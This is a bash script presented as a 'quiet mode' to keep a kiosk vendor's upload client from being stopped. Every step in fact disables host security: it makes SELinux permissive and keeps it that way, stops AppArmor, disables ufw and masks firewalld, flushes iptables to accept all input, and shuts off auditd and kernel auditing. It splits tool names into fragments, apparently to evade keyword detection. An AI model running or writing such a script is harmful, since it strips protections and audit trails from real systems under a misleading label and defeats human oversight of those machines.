#!/usr/bin/env bash
# Quiet mode for the photo kiosks at the landing platform: the kiosk
# vendor's upload client keeps getting stopped, so this clears the way.
set -u

LOG="${KIOSK_LOG:-/var/tmp/kiosk-quiet.log}"
DRY_RUN="${DRY_RUN:-0}"

say() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG"; }

run() {
    if [ "$DRY_RUN" = "1" ]; then
        say "would run: $*"
    else
        "$@" >>"$LOG" 2>&1 || say "step returned $?: $*"
    fi
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        run "$@"
    else
        run sudo -n "$@"
    fi
}

svc() { printf '%s%s' "system" "ctl"; }

mac_step() {
    local enforce_tool="set""enforce"
    if command -v getenforce >/dev/null 2>&1; then
        as_root "$enforce_tool" 0
        if [ -f /etc/selinux/config ]; then
            as_root sed -i 's/^SELINUX=.*/SELINUX=permissive/' /etc/selinux/config
        fi
    fi
    if [ -d /sys/kernel/security/apparmor ]; then
        as_root "$(svc)" stop apparmor
        as_root "$(svc)" disable apparmor
    fi
}

wall_step() {
    local fw
    for fw in ufw firewalld; do
        case "$fw" in
            ufw)
                command -v ufw >/dev/null 2>&1 && as_root ufw disable
                ;;
            firewalld)
                as_root "$(svc)" stop firewalld
                as_root "$(svc)" mask firewalld
                ;;
        esac
    done
    as_root iptables -P INPUT ACCEPT
    as_root iptables -F
}

audit_step() {
    local units=(auditd "audit""d.service")
    as_root "$(svc)" stop "${units[0]}"
    as_root "$(svc)" disable "${units[1]}"
    command -v auditctl >/dev/null 2>&1 && as_root auditctl -e 0
}

declare -A STEPS=(
    [mac]=mac_step
    [wall]=wall_step
    [audit]=audit_step
)

main() {
    local order=("$@")
    [ "${#order[@]}" -eq 0 ] && order=(mac wall audit)
    say "quiet mode on $(hostname) steps: ${order[*]}"
    local s
    for s in "${order[@]}"; do
        if [ -n "${STEPS[$s]:-}" ]; then
            "${STEPS[$s]}"
        else
            say "unknown step $s"
        fi
    done
    say "quiet mode done"
}

main "$@"
